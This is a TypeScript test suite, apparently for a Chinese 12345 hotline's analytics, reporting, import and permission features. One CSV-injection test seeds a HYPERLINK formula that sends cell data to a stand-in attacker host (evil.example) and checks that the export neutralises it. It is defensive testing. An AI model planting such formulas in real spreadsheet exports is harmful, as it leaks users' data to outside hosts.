    expect(lines.filter((l) => /^(by_topic|by_region|ranking_unit|ranking_county|hotspot_topics|hotspot_regions)[^,]*,[^,]+,,/.test(l))).toEqual([]);
    // a notable ticket's unit, topic and district by name, its times in Asia/Shanghai with the offset
    expect(lines).toContain('notable_overdue,an-j07,测试牧野区,unit,an-muye,unit_id,,,,,,');
    expect(lines).toContain('notable_overdue,an-j07,大气污染,topic,050101,topic_code,,,,,,');
    expect(lines).toContain('notable_overdue,an-j07,牧野区,district,410711,district_code,,,,,,');
    expect(lines).toContain('notable_overdue,an-j07,,received_at,2020-06-20T09:00:00+08:00,time_asia_shanghai,,,,,,');
    expect(lines).toContain('notable_overdue,an-j07,,due_by,2020-06-28T23:59:59+08:00,time_asia_shanghai,,,,,,');
    expect((await sys.call('GET', '/v1/reports/month-2020-06-01?format=csv', { key: supervisor })).body).toBe(csv.body);

    const html = await sys.call('GET', '/v1/reports/month-2020-06-01?format=html', { key: supervisor });
    expect(html.headers.get('content-type')).toMatch(/^text\/html/);
    expect(html.body).toContain('<svg');
    expect(html.body).toContain('12345 政务服务便民热线 月报 2020-06-01 – 2020-06-30');
    expect(html.body).not.toMatch(/<(script|link|img|iframe)\b|url\(|src=/i);
  });

  it('escapes what it shows: a unit name with quotes, commas and markup', async () => {
    const { db } = sys.database;
    await db.insert(units).values({ id: 'an-odd', name: '测试 "引号", <b>标签</b>', level: 'city', regionCode: '410700' }).onConflictDoNothing();
    await db.insert(tickets).values(handled('an-odd-1', 'an-odd', '2020-11-03 09:00', '2020-11-10', { repliedAt: sh('2020-11-05 09:00'), replyOnTime: true, satisfaction: 'satisfied' })).onConflictDoNothing();
    expect((await sys.call('POST', '/v1/reports', { key: supervisor, body: { period: 'month', start: '2020-11-01' } })).status).toBe(200);
    const csv = await sys.call('GET', '/v1/reports/month-2020-11-01.csv', { key: supervisor });
    expect(csv.body).toContain('ranking_unit_small,an-odd,"测试 ""引号"", <b>标签</b>",score,100,score,,,,,,\r\n');
    const html = await sys.call('GET', '/v1/reports/month-2020-11-01?format=html', { key: supervisor });
    expect(html.body).toContain('测试 &#34;引号&#34;, &#60;b&#62;标签&#60;/b&#62;');
    expect(html.body).not.toContain('<b>标签');
  });

  it('writes no cell of the CSV that a spreadsheet would run as a formula (CSV injection)', async () => {
    const { db } = sys.database;
    const address = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
    await db.insert(units).values({ id: 'an-formula', name: '@SUM(1+1)', level: 'city', regionCode: '410700' }).onConflictDoNothing();
    await db
      .insert(tickets)
      .values(['08', '09', '10'].map((d) => handled(`an-formula-${d}`, 'an-formula', `2020-12-${d} 09:00`, '2020-12-11', { topic: '030101', address, repliedAt: sh(`2020-12-${d} 15:00`), replyOnTime: true, satisfaction: 'satisfied' })))
      .onConflictDoNothing();
    expect((await sys.call('POST', '/v1/reports', { key: supervisor, body: { period: 'week', start: '2020-12-07' } })).status).toBe(200);
    const csv = await sys.call('GET', '/v1/reports/week-2020-12-07.csv', { key: supervisor });
    expect(csv.status).toBe(200);
    expect(csv.body).toContain(`place_cluster,410702/030101,"'=HYPERLINK(""http://evil.example/?d=""&A1,""点我"")",tickets,3,tickets,,,,,,\r\n`);
    expect(csv.body).toContain(`,an-formula,"'@SUM(1+1)",rank,1,`);
    const cells = (csv.body as string).split(/,|\r\n/);
    expect(cells.filter((c) => /^"?[=+@\t\r]/.test(c))).toEqual([]);
  });

  it('lists reports newest period first, by kind, page by page', async () => {
    for (const body of [{ period: 'month', start: '2020-03-01' }, { period: 'week', start: '2020-06-01' }, { period: 'day', start: '2020-06-02' }]) {
      expect((await sys.call('POST', '/v1/reports', { key: admin, body })).status).toBe(200);
    }
    const page1 = await get('/v1/reports?period=month&limit=2');
    expect(page1.items.map((r: { id: string }) => r.id)).toEqual(['month-2020-11-01', 'month-2020-06-01']);
    const page2 = await get(`/v1/reports?period=month&limit=2&cursor=${page1.nextCursor}`);
    expect(page2.items).toEqual([expect.objectContaining({ id: 'month-2020-03-01', period: 'month', range: expect.objectContaining({ days: 31 }) })]);
    expect(page2.nextCursor).toBeNull();
    const week = await get('/v1/reports/week-2020-06-01');
    expect(week.rankings.basis).toBe('month_to_date');
    expect(week.overview.monthOnMonthPeriod).toMatchObject({ firstDay: '2020-05-25', lastDay: '2020-05-31' });
    const march = await get('/v1/reports/month-2020-03-01');
    expect(march.interviews.cases.map((c: { id: string }) => c.id)).toEqual(['an-i1', 'an-i3']);
  });

  it('refuses a period that does not start on its first day, or has not ended, or is unknown', async () => {
    const notMonday = await sys.call('POST', '/v1/reports', { key: supervisor, body: { period: 'week', start: '2020-06-02' } });
    expect(notMonday.status).toBe(400);
    expect(notMonday.body.error.details).toEqual([{ path: 'start', message: 'a week starts on a Monday; 2020-06-02 is not one' }]);
    const future = await sys.call('POST', '/v1/reports', { key: supervisor, body: { period: 'year', start: '2099-01-01' } });
    expect(future.status).toBe(422);
    expect((await sys.call('GET', '/v1/reports/month-1999-01-01', { key: supervisor })).status).toBe(404);
  });

  it('creates the report schedules in Asia/Shanghai time, idempotently; a run reports on the period before it was due', async () => {
    await ensureReportSchedules(sys.temporal, sys.taskQueue);
    await ensureReportSchedules(sys.temporal, sys.taskQueue);
    try {
      const schedule = async (period: 'day' | 'week' | 'month' | 'year') => sys.temporal.schedule.getHandle(reportScheduleId(sys.taskQueue, period)).describe();
      const daily = await schedule('day');
      expect(daily.spec.timezone).toBe('Asia/Shanghai');
      expect(daily.spec.calendars?.[0]).toMatchObject({ hour: [{ start: 1, end: 1, step: 1 }] });
      expect(daily.policies.overlap).toBe('SKIP');
      expect((await schedule('week')).spec.calendars?.[0]).toMatchObject({ dayOfWeek: [{ start: 'MONDAY', end: 'MONDAY', step: 1 }], hour: [{ start: 2, end: 2, step: 1 }] });
      expect((await schedule('month')).spec.calendars?.[0]).toMatchObject({ dayOfMonth: [{ start: 1, end: 1, step: 1 }], hour: [{ start: 3, end: 3, step: 1 }] });
      expect((await schedule('year')).spec.calendars?.[0]).toMatchObject({ month: [{ start: 'JANUARY', end: 'JANUARY', step: 1 }], hour: [{ start: 4, end: 4, step: 1 }] });

      const yesterday = latestEndedStart('day', new Date());
      await sys.temporal.schedule.getHandle(reportScheduleId(sys.taskQueue, 'day')).trigger();
      await expect
        .poll(async () => (await sys.database.db.select({ id: reports.id }).from(reports).where(eq(reports.id, `day-${yesterday}`))).length, { timeout: 30_000, interval: 250 })
        .toBe(1);
      const listed = await get('/v1/reports?period=day&limit=1');
      expect(listed.items[0]).toMatchObject({ id: `day-${yesterday}`, start: yesterday, range: { days: 1 } });

      // a backfilled run reports on the day before the time it was due, not the day it ran
      await sys.temporal.schedule.getHandle(reportScheduleId(sys.taskQueue, 'day')).backfill({ start: sh('2020-06-11 00:30'), end: sh('2020-06-11 01:30') });
      await expect.poll(async () => (await sys.call('GET', '/v1/reports/day-2020-06-10', { key: supervisor })).status, { timeout: 30_000, interval: 250 }).toBe(200);
    } finally {
      for (const period of ['day', 'week', 'month', 'year'] as const) await sys.temporal.schedule.getHandle(reportScheduleId(sys.taskQueue, period)).delete();
    }
  });
});

describe('the historical import', () => {
  const ndjson = [
    JSON.stringify({ id: 'an-h1', channel: 'phone', receivedAt: '2018-03-01T09:00:00+08:00', status: 'answered', type: 'consultation', topic: '010101' }),
    JSON.stringify({
      id: 'an-h2', channel: 'wechat', receivedAt: '2018-03-02T09:00:00+08:00', status: 'closed', unitId: 'an-water', dispatchedAt: '2018-03-02T09:05:00+08:00',
      dueBy: '2018-03-09T23:59:59.999+08:00', repliedAt: '2018-03-05T10:00:00+08:00', satisfaction: 'satisfied', businessEnvironment: true,
    }),
    '',
    '{"id": "an-h3", "channel":',
    JSON.stringify({ id: 'an-h4', receivedAt: 'yesterday', status: 'answered' }),
    JSON.stringify({ id: 'an-h5', channel: 'phone', receivedAt: '2018-03-03T09:00:00+08:00', status: 'handling' }),
    JSON.stringify({ id: 'an-h6', channel: 'phone', receivedAt: '2018-03-03T09:00:00+08:00', status: 'answered', colour: 'red' }),
    JSON.stringify({ id: 'an-h1', channel: 'phone', receivedAt: '2018-03-01T09:00:00+08:00', status: 'answered', content: '重复的一行' }),
  ].join('\n');

  const importAs = (type: string, raw: string, key = admin) => sys.call('POST', '/v1/admin/import/tickets', { key, raw, headers: { 'content-type': type } });

  it('imports NDJSON row by row and reports each rejected row with its line, field and reason', async () => {
    const res = await importAs('application/x-ndjson', ndjson);
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ rows: 7, imported: 2, alreadyPresent: 1, rejected: 4, rejectionsTruncated: false });
    expect(res.body.rejections).toEqual([
      { line: 4, field: '(row)', message: expect.stringMatching(/^not valid JSON/) },
      { line: 5, field: 'channel', message: expect.any(String) },
      { line: 5, field: 'receivedAt', message: 'must be an ISO 8601 time with offset, e.g. 2019-03-01T09:30:00+08:00' },
      { line: 6, field: 'unitId', message: "is required for a ticket in status 'handling'" },
      { line: 6, field: 'dispatchedAt', message: "is required for a ticket in status 'handling'" },
      { line: 7, field: 'colour', message: expect.stringMatching(/^unknown column/) },
    ]);
    const [h2] = await sys.database.db.select().from(tickets).where(eq(tickets.id, 'an-h2'));
    expect(h2).toMatchObject({ imported: true, status: 'closed', unitId: 'an-water', businessEnvironment: true, lastEventSeq: 0, content: '' });
    const o = await get('/v1/analytics/overview?from=2018-03-01&to=2018-03-31');
    expect(o.volume.value).toBe(2);
    expect(o.onTimeCompletionRate).toMatchObject({ numerator: 1, denominator: 1 });
  });

  it('changes nothing when the same file comes again', async () => {
    const res = await importAs('application/x-ndjson', ndjson.replace('"status":"answered","type"', '"status":"rejected","type"'));
    expect(res.body).toMatchObject({ rows: 7, imported: 0, alreadyPresent: 3, rejected: 4 });
    const [h1] = await sys.database.db.select().from(tickets).where(eq(tickets.id, 'an-h1'));
    expect(h1!.status).toBe('answered');
    const counted = await sys.database.db
      .select({ due: sql<number>`sum(${ticketHandlingDaily.due})::int` })
      .from(ticketHandlingDaily)
      .where(and(eq(ticketHandlingDaily.unitId, 'an-water'), sql`${ticketHandlingDaily.day} between '2018-03-01' and '2018-03-31'`));
    expect(counted[0]!.due).toBe(1);
  });

  it('imports CSV with quoted fields across lines, in any column order, counting lines as a reader sees them', async () => {
    const csv = [
      '\uFEFFreceivedAt,id,channel,status,content,unitId,dispatchedAt,repliedAt,replyOnTime,rehandleCount,category',
      '2018-04-01T08:00:00+08:00,an-c1,phone,closed,"停水,三天了',
      '请尽快""处理""",an-water,2018-04-01T08:10:00+08:00,2018-04-02T08:00:00+08:00,true,1,B',
      '2018-04-02T08:00:00+08:00,an-c2,web,answered,,,,,,,E',
      '2018-04-03T08:00:00+08:00,an-c3,web,answered',
      '',
      '2018-04-04T08:00:00+08:00,an-c4,app,rejected,,,,,FALSE,0,',
    ].join('\r\n');
    const res = await importAs('text/csv; charset=utf-8', csv);
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ rows: 4, imported: 2, alreadyPresent: 0, rejected: 2 });
    expect(res.body.rejections).toEqual([
      { line: 4, field: 'category', message: expect.any(String) },
      { line: 5, field: '(row)', message: 'has 4 fields; the header names 11' },
    ]);
    const [c1] = await sys.database.db.select().from(tickets).where(eq(tickets.id, 'an-c1'));
    expect(c1).toMatchObject({ content: '停水,三天了\r\n请尽快"处理"', replyOnTime: true, rehandleCount: 1, category: 'B', imported: true });
  });

  it('refuses a CSV header with an unknown column, and a body that is neither NDJSON nor CSV', async () => {
    const header = await importAs('text/csv', 'id,channel,recievedAt\nan-x,phone,2018-01-01T00:00:00Z');
    expect(header.status).toBe(400);
    expect(header.body.error.details).toEqual([{ path: 'recievedAt', message: expect.stringMatching(/^unknown column/) }]);
    expect((await importAs('text/plain', 'id\n')).status).toBe(415);
    expect((await importAs('application/json', '{"id": "an-x"}')).status).toBe(415);
  });
});

describe('a live ticket', () => {
  it('moves the rollups as the workflow records its steps', async () => {
    // a region no other test uses, known to the hotline because the unit is there
    const [agent, unitId] = await Promise.all([sys.key('agent'), sys.unit('测试实时单位', '419901')]);
    const unitKey = await sys.key('unit', unitId);
    const created = await sys.call('POST', '/v1/tickets', {
      key: agent,
      body: {
        channel: 'phone', content: '测试实时工单：路灯不亮', regionCode: '419901',
        classification: { type: 'help', topic: '0301', category: 'C' }, disposition: { action: 'dispatch', unitId },
      },
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const counts = async () => {
      const [row] = await sys.database.db
        .select({ due: sql<number>`coalesce(sum(due), 0)::int`, signed: sql<number>`coalesce(sum(signed_on_time), 0)::int`, completed: sql<number>`coalesce(sum(completed), 0)::int` })
        .from(ticketHandlingDaily)
        .where(eq(ticketHandlingDaily.unitId, unitId));
      return row;
    };
    expect(await counts()).toEqual({ due: 1, signed: 0, completed: 0 });
    const today = shanghaiDay(new Date());
    const o = await get(`/v1/analytics/overview?from=${today}&to=${today}`);
    expect(o.byRegion.find((b: { key: string }) => b.key === '419901')).toMatchObject({ tickets: 1 });

    expect((await sys.call('POST', `/v1/tickets/${created.body.id}/sign`, { key: unitKey })).status).toBe(200);
    expect(await counts()).toEqual({ due: 1, signed: 1, completed: 0 });
    expect((await sys.call('POST', `/v1/tickets/${created.body.id}/reply`, { key: unitKey, body: { result: 'resolved', reply: '已修复' } })).status).toBe(200);
    expect(await counts()).toEqual({ due: 1, signed: 1, completed: 1 });
  });
});

describe('who may read analytics', () => {
  it('lets supervisors and admins in, and refuses agents and units (403)', async () => {
    const [agent, unit] = await Promise.all([sys.key('agent'), sys.key('unit', 'an-water')]);
    for (const path of ['/v1/analytics/overview?from=2020-06-01&to=2020-06-30', '/v1/analytics/rankings?month=2020-06', '/v1/analytics/interviews?month=2020-06', '/v1/analytics/hotspots?from=2020-09-15&to=2020-09-15', '/v1/reports', '/v1/reports/month-2020-06-01']) {
      for (const key of [agent, unit]) expect((await sys.call('GET', path, { key })).status, path).toBe(403);
      expect((await sys.call('GET', path, { key: admin })).status, path).toBe(200);
    }
    expect((await sys.call('POST', '/v1/reports', { key: agent, body: { period: 'day', start: '2020-06-02' } })).status).toBe(403);
    const imported = await sys.call('POST', '/v1/admin/import/tickets', { key: supervisor, raw: '', headers: { 'content-type': 'application/x-ndjson' } });
    expect(imported.status).toBe(403);
    expect(imported.body.error.code).toBe('forbidden');
  });
});
